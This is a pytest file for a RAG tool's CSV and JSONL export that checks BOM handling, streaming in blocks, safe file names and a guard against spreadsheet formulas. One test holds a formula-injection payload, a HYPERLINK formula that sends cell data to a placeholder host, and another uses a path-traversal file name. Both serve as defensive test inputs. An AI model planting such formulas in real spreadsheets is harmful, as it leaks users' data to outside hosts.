"""rag/export.py: CSV for spreadsheets (BOM, formula guard) and lossless JSONL, streamed in blocks."""

from __future__ import annotations

import csv
import io
import json
import uuid

from rag import export
from rag.store import Hit


def _hit(content: str, *, index: int = 0, pages: list[int] | None = None, knowledge: str = "财务") -> Hit:
    return Hit(
        id=uuid.UUID(int=index + 1),
        content=content,
        score=1.0,
        metadata={
            "knowledge": knowledge,
            "original_filename": "年报 2024.pdf",
            "path": None,
            "pages": pages or [1],
            "page": (pages or [1])[0],
            "chunk_index": index,
            "tokens": 7,
        },
    )


TRICKY = ["营业收入增长 12%，净利润下降。", 'He said "yes", then\nleft; a,b', "- a bullet\u2028next line", "=1+1"]


def test_csv_has_a_bom_and_parses_back_with_chinese_intact() -> None:
    hits = [_hit(text, index=i, pages=[1, 2] if i == 1 else [3]) for i, text in enumerate(TRICKY)]

    data = export.chunks_csv(hits)

    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert list(rows[0]) == ["id", "knowledge", "original_filename", "pages", "chunk_index", "tokens", "content"]
    assert [r["content"] for r in rows] == [export.spreadsheet_text(t) for t in TRICKY]
    assert [r["content"] for r in rows][2:] == ["'- a bullet\u2028next line", "'=1+1"]
    assert rows[0]["knowledge"] == "财务"
    assert rows[0]["original_filename"] == "年报 2024.pdf"
    assert [r["pages"] for r in rows[:2]] == ["3", "1, 2"]
    assert [r["chunk_index"] for r in rows] == ["0", "1", "2", "3"]
    assert rows[0]["id"] == str(uuid.UUID(int=1))
    assert rows[0]["tokens"] == "7"


def test_csv_cells_that_would_run_as_formulas_are_text_and_jsonl_keeps_them() -> None:
    attack = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    hit = Hit(
        id=uuid.UUID(int=9),
        content=attack,
        score=1.0,
        metadata={"knowledge": "+kb", "original_filename": "@evil.pdf", "pages": [1], "chunk_index": 0},
    )
    (row,) = csv.DictReader(io.StringIO(export.chunks_csv([hit]).decode("utf-8-sig"), newline=""))
    assert (row["content"], row["knowledge"], row["original_filename"]) == ("'" + attack, "'+kb", "'@evil.pdf")
    for harmless in ("营业收入", " =not at the start", "1,000", ""):
        assert export.spreadsheet_text(harmless) == harmless
    for starts in ("=", "+", "-", "@", "\t", "\r"):
        assert export.spreadsheet_text(starts + "x") == "'" + starts + "x"
    assert json.loads(export.chunks_jsonl([hit]))["content"] == attack


def test_csv_and_jsonl_stream_in_blocks_from_a_generator() -> None:
    consumed = []

    def hits():
        for i in range(450):
            consumed.append(i)
            yield _hit(f"chunk {i} 中文", index=i)

    blocks = export.iter_chunks_csv(hits())
    header = next(blocks)
    assert consumed == []  # the header comes before any row is read
    assert header == b"\xef\xbb\xbfid,knowledge,original_filename,pages,chunk_index,tokens,content\r\n"
    rest = list(blocks)
    assert len(rest) == 3  # 200 + 200 + 50 rows
    assert header + b"".join(rest) == export.chunks_csv(_hit(f"chunk {i} 中文", index=i) for i in range(450))

    jsonl_blocks = list(export.iter_chunks_jsonl(_hit(f"chunk {i}", index=i) for i in range(450)))
    assert len(jsonl_blocks) == 3
    assert sum(block.count(b"\n") for block in jsonl_blocks) == 450


def test_jsonl_has_one_parsable_object_per_line() -> None:
    hits = [_hit(text, index=i) for i, text in enumerate(TRICKY)]

    data = export.chunks_jsonl(hits)

    text = data.decode("utf-8")
    assert "营业收入" in text  # not \u-escaped
    lines = text.splitlines()  # splits on U+2028 too, which must therefore be escaped
    assert len(lines) == len(TRICKY)
    records = [json.loads(line) for line in lines]
    assert [r["content"] for r in records] == TRICKY
    assert records[1] == {"id": str(uuid.UUID(int=2)), "content": TRICKY[1], "metadata": hits[1].metadata}
    assert export.chunks_jsonl([]) == b""
    assert export.chunks_csv([]).count(b"\r\n") == 1  # the header only


def test_file_stem_keeps_a_safe_name() -> None:
    assert export.file_stem("finance-2024_v1.0") == "finance-2024_v1.0"
    assert export.file_stem("财务 / Q3*") == "财务___Q3"
    assert export.file_stem("../..") == "knowledge-base"
    assert export.file_stem("") == "knowledge-base"
